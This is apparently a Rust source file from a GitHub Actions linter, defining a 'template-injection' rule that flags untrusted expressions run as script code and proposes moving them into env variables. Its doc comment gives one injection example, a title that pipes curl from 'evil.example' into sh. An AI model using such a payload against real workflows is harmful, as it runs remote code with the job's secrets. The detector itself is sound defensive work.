//! See the rule's documentation below.

use super::exposure::Exposure;
use super::reporter::Reporter;
use super::{declare_rule, extraction};
use crate::detectors::taint::HarmKind;
use crate::expressions::{ContextUse, Site};
use crate::knowledge::{sinks, variables};
use crate::knowledge::trust::{self, Trust};
use crate::model::finding::{Confidence, Persona, Related, Safety, Severity};
use crate::model::source_file::SourceFile;
use crate::model::workflow::{ActionReference, Event, StepKind};

declare_rule! {
    /// A value that others control becomes part of a script
    ///
    /// ## Why is this bad?
    /// GitHub puts the value into the script before the shell reads it, so a title such as
    /// `"; curl evil.example | sh; "` is run as code, with the job's token and secrets.
    ///
    /// ## Bad
    /// ```yaml
    /// on: issues
    /// permissions: {}
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Good
    /// ```yaml
    /// on: issues
    /// permissions: {}
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "$TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.issue.title }}
    /// ```
    ///
    /// ## How to fix
    /// Hand the value over in `env` and read the variable, in quotes. In `actions/github-script`
    /// read it from `context.payload` or `process.env`.
    ///
    /// Values are followed through `env`, `$GITHUB_ENV`, `$GITHUB_OUTPUT`, outputs of steps and jobs and the
    /// matrix, and through the commands of scripts; what `eval`, `bash -c` and their like run counts, too.
    /// Where only pull requests from forks bring a value, without secrets and with a token that can only
    /// read, it is a warning. What no event of the workflow can carry is for the pedantic persona.
    ///
    /// Inputs of actions and of called workflows are a warning, since their caller cannot know
    /// that they are code. Values that only people with write access control, and those whose
    /// origin is not known, are shown to the pedantic persona, every other expression in a script
    /// to the auditor.
    "template-injection",
    group: Injection,
    since: "0.1.0",
    severity: Error,
    fixable: Unsafe,
    peers: {
        "actionlint": ["expression"],
        "zizmor": ["template-injection"],
        "poutine": ["injection"],
        "scorecard": ["Dangerous-Workflow"],
    },
    checks: [Expression(check), File(check_scripts)],
}

fn check(site: &Site<'_>, reporter: &mut Reporter<'_>) {
    let Some(sink) = sink(site) else {
        check_handed(site, reporter);
        return;
    };
    let mut harmless = true;
    for used in site.contexts.iter().filter(|used| used.flows) {
        let exposure = exposure(site, used, reporter);
        let risk = exposure.as_ref().map_or_else(|| judge(site, used, reporter), Risk::of);
        harmless &= risk == Risk::Harmless;
        if risk != Risk::Harmless {
            report(site, used, &Case { risk, sink, exposure }, reporter);
        }
    }
    if harmless {
        report_harmless(site, sink, reporter);
    }
}

fn exposure<'file>(site: &Site<'_>, used: &ContextUse<'_>, reporter: &Reporter<'file>) -> Option<Exposure<'file>> {
    Exposure::worst(reporter.taint().of(site, used)?, site.job, reporter)
}

fn report_harmless(site: &Site<'_>, sink: Sink<'_>, reporter: &mut Reporter<'_>) {
    let source = site.source();
    let start = site.range.start + source.len() - source.trim_start().len();
    let span = reporter.inside(site.text, start..site.range.start + source.trim_end().len());
    let only = site.contexts.first().filter(|_| site.contexts.len() == 1 && reporter.shows(Risk::Harmless.persona()));
    let fix = only.map(|used| (variable(used), extraction::draft(site, used, &variable(used), reporter)));
    let (variable, draft) = fix.unwrap_or_default();
    reporter
        .report(span, format!("an expression becomes part of {sink}"))
        .severity(Severity::Info)
        .confidence(Confidence::Low)
        .persona(Risk::Harmless.persona())
        .fix(Safety::Unsafe, title(&variable), draft)
        .help("hand the value over in `env`, so that it can never be read as code");
}

/// What there is to report about a context.
struct Case<'file> {
    risk: Risk,
    sink: Sink<'file>,
    /// Where its value comes from, if that is known.
    exposure: Option<Exposure<'file>>,
}

fn report(site: &Site<'_>, used: &ContextUse<'_>, case: &Case<'_>, reporter: &mut Reporter<'_>) {
    let Case { risk, sink, exposure } = case;
    let (name, variable) = (used.dotted(), variable(used));
    let reading = sink.reading(&variable);
    let is_set = used.is("env") || variables::same_as(used.root(), used.name(1).unwrap_or_default()).is_some();
    let help = if is_set && used.parts.len() == 2 {
        format!("{reading}, which has the same value")
    } else {
        format!("set `{variable}: ${{{{ {name} }}}}` under the step's `env` and {reading}")
    };
    let span = reporter.inside(site.text, used.range.clone());
    let is_shown = reporter.shows(risk.persona());
    let draft = is_shown.then(|| extraction::draft(site, used, &variable, reporter)).flatten();
    let places = exposure.as_ref().map(|exposure| exposure.places(reporter)).unwrap_or_default();
    let message = match exposure {
        Some(exposure) if !exposure.is_direct() => {
            format!("`{name}`, which holds {}, becomes part of {sink}", exposure.origin.name)
        }
        _ if *risk == Risk::Caller => format!("the input `{name}` becomes part of {sink}"),
        _ => format!("`{name}` becomes part of {sink}"),
    };
    let report = reporter.report(span, message).help(help).fix(Safety::Unsafe, title(&variable), draft);
    let report = match risk {
        Risk::Harmless => report,
        Risk::Outsider => {
            let who = exposure.as_ref().map(|exposure| exposure.origin.who.clone()).unwrap_or_default();
            report.note(format!("{who} decides what it is, and so what runs here"))
        }
        Risk::Caller => report
            .severity(Severity::Warning)
            .confidence(Confidence::Medium)
            .note("whoever uses this cannot know that the value is run as code, and may hand over text of others"),
        Risk::Insider | Risk::Unknown => {
            report.severity(Severity::Info).confidence(Confidence::Low).persona(risk.persona())
        }
    };
    if let Some(exposure) = exposure {
        exposure.tell(&places, report);
    }
}

/// Reports what strangers decide and an action or a workflow of the repository runs as code.
fn check_handed(site: &Site<'_>, reporter: &mut Reporter<'_>) {
    let Some((uses, place)) = handed(site, reporter) else { return };
    for used in site.contexts.iter().filter(|used| used.flows) {
        let Some(exposure) = exposure(site, used, reporter).filter(Exposure::is_of_strangers) else { continue };
        let name = used.dotted();
        let (places, span) = (exposure.places(reporter), reporter.inside(site.text, used.range.clone()));
        let holding = exposure.holding();
        let report = reporter
            .report(span, format!("`{name}`{holding} becomes code in `{uses}`"))
            .note(format!("{} decides what it is, and so what runs there", exposure.origin.who))
            .help("let the script there read the input from a variable of its step's `env`, in quotes");
        exposure.tell(&places, report).elsewhere(place.clone());
    }
}

/// Returns what runs an input as code that an expression is handed to, and where.
fn handed<'file>(site: &Site<'_>, reporter: &Reporter<'file>) -> Option<(String, &'file Related)> {
    let surroundings = reporter.surroundings();
    let (uses, passages, input) = match (site.path.as_slice(), site.step) {
        ([.., "with", input], Some(step)) => {
            let uses = step.uses()?;
            (uses, &surroundings.action(&uses.value)?.passages, input)
        }
        (["jobs", _, "with", input], None) => {
            let uses = site.job?.uses.as_ref()?;
            (uses, &surroundings.workflow(&uses.value)?.passages, input)
        }
        _ => return None,
    };
    Some((uses.value.trim().to_owned(), passages.code.get(&input.to_ascii_lowercase())?))
}

/// Reports what a script runs as code by itself.
fn check_scripts(_: &SourceFile, reporter: &mut Reporter<'_>) {
    let taint = reporter.taint();
    for harm in taint.harms() {
        let (program, help) = match &harm.kind {
            HarmKind::Runs(program) => {
                (program.as_str(), "hand the value over as an argument or in a variable that the code reads, in quotes")
            }
            HarmKind::Pastes => {
                ("the command prompt", "read the variable in PowerShell, or as `!NAME!` under `setlocal EnableDelayedExpansion`")
            }
            HarmKind::Sets(_) => continue,
        };
        // An input that names a program, or code, is there to be run.
        let exposure = Exposure::worst(&harm.flows, harm.job, reporter).filter(Exposure::is_of_strangers);
        let Some(exposure) = exposure else { continue };
        let places = exposure.places(reporter);
        let span = reporter.inside(harm.text, harm.range.clone());
        let report = reporter
            .report(span, format!("{} is run as code by {program}", exposure.origin.name))
            .help(help);
        let who = format!("{} decides what it is, and so what runs here", exposure.origin.who);
        exposure.tell(&places, report.note(who));
    }
}

fn title(variable: &str) -> String {
    format!("read the value from the variable `{variable}`")
}

/// What an expression in a script can do, the worst last.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Risk {
    Harmless,
    Unknown,
    Insider,
    Caller,
    Outsider,
}

impl Risk {
    fn of(exposure: &Exposure<'_>) -> Self {
        if exposure.is_of_strangers() { Self::Outsider } else { Self::Caller }
    }

    fn persona(self) -> Persona {
        match self {
            Self::Harmless => Persona::Auditor,
            Self::Unknown | Self::Insider => Persona::Pedantic,
            Self::Caller | Self::Outsider => Persona::Regular,
        }
    }
}

fn judge(site: &Site<'_>, used: &ContextUse<'_>, reporter: &Reporter<'_>) -> Risk {
    let lower = used.lower();
    let path: Vec<&str> = lower.iter().map(String::as_str).collect();
    if let ["env", name] = path.as_slice() {
        return environment(site, name, reporter);
    }
    match trust::of(&path) {
        Trust::Insider if path.first() == Some(&"inputs") => of_input(path.get(1).copied().unwrap_or_default(), reporter),
        // Where no event of the workflow carries it, or a condition keeps strangers out, insiders are left.
        Trust::Outsider | Trust::Insider => Risk::Insider,
        Trust::Unknown => Risk::Unknown,
        Trust::Fixed => Risk::Harmless,
    }
}

/// Judges an input: text in an action or a called workflow comes from a caller who does not know
/// what happens to it.
fn of_input(name: &str, reporter: &Reporter<'_>) -> Risk {
    if let Some(action) = reporter.file().action() {
        // What is not declared is always empty.
        let is_declared = action.inputs.iter().any(|input| input.name.value.eq_ignore_ascii_case(name));
        return if is_declared || matches!(name, "" | "*") { Risk::Caller } else { Risk::Harmless };
    }
    let declared = |event: Event| {
        let kind = reporter.names().input(event, name)?.kind().unwrap_or("string");
        Some(!matches!(kind, "boolean" | "number" | "choice" | "environment"))
    };
    match (declared(Event::WorkflowCall), declared(Event::WorkflowDispatch)) {
        (Some(true), _) => Risk::Caller,
        (_, Some(true)) | (None, None) => Risk::Insider,
        (Some(false), _) | (_, Some(false)) => Risk::Harmless,
    }
}

/// Follows a variable to the nearest `env` that sets it.
fn environment(site: &Site<'_>, name: &str, reporter: &Reporter<'_>) -> Risk {
    let Some(value) = reporter.variables().value(name, site) else { return Risk::Unknown };
    if !value.has_expression() {
        return Risk::Harmless;
    }
    let read = reporter.sites_in(value).flat_map(|site| &site.contexts).filter(|used| used.flows && !used.is("env"));
    read.map(|used| judge(site, used, reporter)).max().unwrap_or(Risk::Unknown)
}

/// Where the value is run.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Sink<'file> {
    /// `run`.
    Script,
    /// `script` of `actions/github-script`.
    JavaScript,
    /// An input that an action runs.
    Input(&'file str),
}

impl Sink<'_> {
    fn reading(self, variable: &str) -> String {
        match self {
            Self::Script => format!("read `\"${variable}\"`"),
            Self::JavaScript => format!("read `process.env.{variable}`"),
            Self::Input(_) => format!("read the variable `{variable}`"),
        }
    }
}

impl std::fmt::Display for Sink<'_> {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Script => formatter.write_str("the script"),
            Self::JavaScript => formatter.write_str("the JavaScript"),
            Self::Input(name) => write!(formatter, "the input `{name}`, which the action runs as code"),
        }
    }
}

fn sink<'file>(site: &Site<'file>) -> Option<Sink<'file>> {
    let step = site.step.filter(|_| !site.is_key)?;
    match (site.path.as_slice(), &step.kind) {
        ([.., "-", "run"], StepKind::Run(_)) => Some(Sink::Script),
        ([.., "with", input], StepKind::Uses { uses, .. }) => {
            let ActionReference::Repository(reference) = ActionReference::parse(&uses.value) else { return None };
            let name = reference.name();
            if !sinks::runs_as_code(&name, input) {
                None
            } else if name.eq_ignore_ascii_case("actions/github-script") {
                Some(Sink::JavaScript)
            } else {
                Some(Sink::Input(input))
            }
        }
        _ => None,
    }
}

/// Makes a variable's name of a context: its last two names, in capitals. A variable's own name, and
/// one that the runner sets with the same value, need no other.
fn variable(used: &ContextUse<'_>) -> String {
    if let (2, Some(name)) = (used.parts.len(), used.name(1)) {
        if used.is("env") {
            return name.to_owned();
        }
        if let Some(same) = variables::same_as(used.root(), name) {
            return same;
        }
    }
    let is_telling = |name: &&str| !["event", "outputs"].iter().any(|word| name.eq_ignore_ascii_case(word));
    let capitals = |name: &str| {
        name.to_ascii_uppercase().replace(|character: char| !character.is_ascii_alphanumeric(), "_")
    };
    let names: Vec<String> =
        (1..used.parts.len()).filter_map(|at| used.name(at)).filter(is_telling).map(capitals).collect();
    let last = names.iter().skip(names.len().saturating_sub(2)).cloned().collect::<Vec<_>>().join("_");
    let with_context = format!("{}_{last}", capitals(used.root()));
    match names.len() {
        0 => "VALUE".to_owned(),
        // The runner would put its own value, which is another one in a container.
        1 if variables::is_of_runner(&with_context) => format!("CONTEXT_{last}"),
        _ if variables::is_taken(&last) => with_context,
        1 if !used.is("secrets") && !used.is("vars") => with_context,
        _ => last,
    }
}
